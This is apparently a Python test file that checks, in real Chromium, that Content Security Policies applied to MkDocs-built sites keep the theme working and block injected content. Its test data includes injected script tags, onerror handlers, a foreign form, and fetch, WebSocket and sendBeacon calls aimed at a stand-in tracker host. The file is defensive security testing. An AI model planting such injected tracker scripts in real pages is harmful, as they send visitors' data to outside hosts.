"""The policy in real Chromium: the theme works, nothing leaves, and injected trackers are dead."""

from __future__ import annotations

import functools
import http.server
import os
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from referable.engines.csp import apply_to_folder

pytestmark = pytest.mark.browser

CHROMIUM = os.environ.get("REFERABLE_CHROMIUM") or shutil.which("chromium")
MKDOCS_YML = """\
site_name: Sample Practice
site_url: https://sample.example.org/
theme:
  name: material
  font: false
  features: [navigation.tabs, navigation.top, search.suggest, search.highlight, content.code.copy,
             content.tabs.link, toc.follow, announce.dismiss]
  palette:
    - scheme: default
      toggle: {icon: material/weather-night, name: Switch to dark mode}
    - scheme: slate
      toggle: {icon: material/weather-sunny, name: Switch to light mode}
markdown_extensions: [tables, admonition, attr_list, footnotes, pymdownx.highlight,
  pymdownx.superfences, pymdownx.tasklist, {pymdownx.tabbed: {alternate_style: true}}]
plugins: [search]
"""
HOME = """\
# Sample practice

Massage for neck pain. [A video](https://www.youtube.com/watch?v=abc)

| outcome | effect |
|:--------|-------:|
| pain    |    1.5 |

=== "One"
    first

=== "Two"
    second

```python
x = 1
```
"""
INJECTED = """\
<script>window.injected = 1; new Image().src = 'https://tracker.example.net/p.gif'</script>
<script src="https://cdn.example.net/tracker.js"></script>
<img src="https://tracker.example.net/pixel.gif" onerror="window.handled = 1">
<img src="/nothing.png" onerror="window.handled = 1">
<style>@font-face { font-family: far; src: url(https://fonts.example.net/a.woff2) }
#far { font-family: far }</style>
<p id="far">Far</p>
<iframe src="https://frames.example.net/"></iframe>
<form id="f" action="https://forms.example.net/" method="post"><input name="a"></form>
<form id="own" action="/deep/page/"><input name="a"></form>
"""


def build(folder: Path, engine: str) -> Path:
    pages = folder / "docs"
    (pages / "deep").mkdir(parents=True)
    (folder / "mkdocs.yml").write_text(MKDOCS_YML, encoding="utf-8")
    (pages / "index.md").write_text(HOME, encoding="utf-8")
    (pages / "deep" / "page.md").write_text("# Deep\n\nShoulder text.\n", encoding="utf-8")
    command = [sys.executable, "-m", engine, "build"]
    environment = {**os.environ, "NO_MKDOCS_2_WARNING": "1"}
    subprocess.run(command, cwd=folder, env=environment, check=True, capture_output=True)
    site = folder / "site"
    home = (site / "index.html").read_text(encoding="utf-8")
    bad = home.replace("</article>", INJECTED + "</article>", 1)
    assert bad != home
    (site / "bad.html").write_text(bad, encoding="utf-8")
    apply_to_folder(site)
    return site


class Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
        pass


@pytest.fixture(scope="module", params=["mkdocs", "zensical"])
def site(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of a small site built by one engine, with policies, on loopback."""
    if not CHROMIUM:
        pytest.skip("no Chromium; set REFERABLE_CHROMIUM")
    pytest.importorskip("playwright")
    pytest.importorskip(request.param)
    folder = build(tmp_path_factory.mktemp(request.param), request.param)
    handler = functools.partial(Quiet, directory=str(folder))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()
    server.server_close()
    thread.join()


class Visit:
    """A page open in Chromium, with everything it complained about and asked for."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.messages: list[str] = []
        self.foreign: list[str] = []
        page.on("console", lambda m: self.messages.append(m.text))
        page.on("pageerror", lambda e: self.messages.append(str(e)))
        page.on("request", self._asked)

    def _asked(self, request: Any) -> None:
        if not request.url.startswith(("http://127.0.0.1:", "data:", "blob:")):
            self.foreign.append(request.url)

    @property
    def violations(self) -> list[str]:
        return [m for m in self.messages if "Content Security Policy" in m or "violates" in m]


@pytest.fixture
def visit(browser: Any) -> Iterator[Visit]:
    """A fresh Chromium window."""
    context = browser.new_context()
    yield Visit(context.new_page())
    context.close()


def test_theme_works_inside_the_policy(site: str, visit: Visit) -> None:
    """Search, the colour switch, tabs and the 404 page work without a violation or foreign call."""
    page = visit.page
    page.goto(site, wait_until="networkidle")
    before = page.evaluate("document.body.dataset.mdColorScheme")
    page.locator("label.md-header__button[for^=__palette]:visible").first.click()
    after = page.evaluate("document.body.dataset.mdColorScheme")
    align = page.evaluate("getComputedStyle(document.querySelector('td:last-child')).textAlign")
    page.locator(".tabbed-labels label").nth(1).click()
    results = search(page, "shoulder")
    page.goto(site + "deep/page/", wait_until="networkidle")
    kept = page.evaluate("document.body.dataset.mdColorScheme")
    page.goto(site + "404.html", wait_until="networkidle")

    assert (before, after, kept) == ("default", "slate", "slate")
    assert align == "right"
    assert "Deep" in results
    assert visit.violations == []
    assert visit.foreign == []
    assert page.context.cookies() == []
    assert (
        page.evaluate("Object.keys(localStorage).filter(k => !/__(palette|tabs)$/.test(k))") == []
    )


def search(page: Any, words: str) -> str:
    """Type into the theme's search, classic or new, and return what it finds."""
    classic = page.locator("input.md-search__input")
    if classic.count():
        classic.first.click()
        page.keyboard.type(words)
        found = page.locator(".md-search-result__item")
    else:
        page.locator("button.md-search__button").click()
        page.get_by_label("Search", exact=True).last.fill(words)
        found = page.locator("ol li a, [id$=-results] a")
    found.first.wait_for(timeout=10_000)
    return str(found.first.inner_text())


def test_injected_tracker_is_dead(site: str, visit: Visit) -> None:
    """A pasted script, handler, remote font, frame and form do nothing and call nobody."""
    page = visit.page
    page.goto(site + "bad.html", wait_until="networkidle")
    ran = page.evaluate("[window.injected, window.handled]")
    page.evaluate("document.getElementById('f').submit()")
    page.evaluate("document.getElementById('own').submit()")
    page.wait_for_function("true")
    told = "\n".join(visit.violations)

    assert ran == [None, None]
    # Chromium reports a request that its policy then refuses; none may reach the network.
    assert page.url == site + "bad.html"
    for directive in ("script-src", "img-src", "font-src", "frame-src", "form-action"):
        assert directive in told
    for host in (
        "cdn.example.net",
        "tracker.example.net",
        "fonts.example.net",
        "frames.example.net",
    ):
        assert host in told


def test_fetch_to_another_host_is_refused(site: str, visit: Visit) -> None:
    """Even a script that runs cannot send anything away, nor through a worker or a beacon."""
    page = visit.page
    page.goto(site, wait_until="networkidle")
    outcome = page.evaluate(
        """async () => {
          const seen = [];
          document.addEventListener('securitypolicyviolation', e => seen.push(e.effectiveDirective));
          try { await fetch('https://tracker.example.net/'); seen.push('sent'); } catch {}
          try { new WebSocket('wss://tracker.example.net/'); } catch {}
          navigator.sendBeacon('https://tracker.example.net/', 'x');
          try { new Worker(URL.createObjectURL(new Blob(['1']))); } catch {}
          await new Promise(r => setTimeout(r, 50));
          return seen;
        }"""
    )

    assert "sent" not in outcome
    assert outcome.count("connect-src") >= 2
    assert "worker-src" in outcome
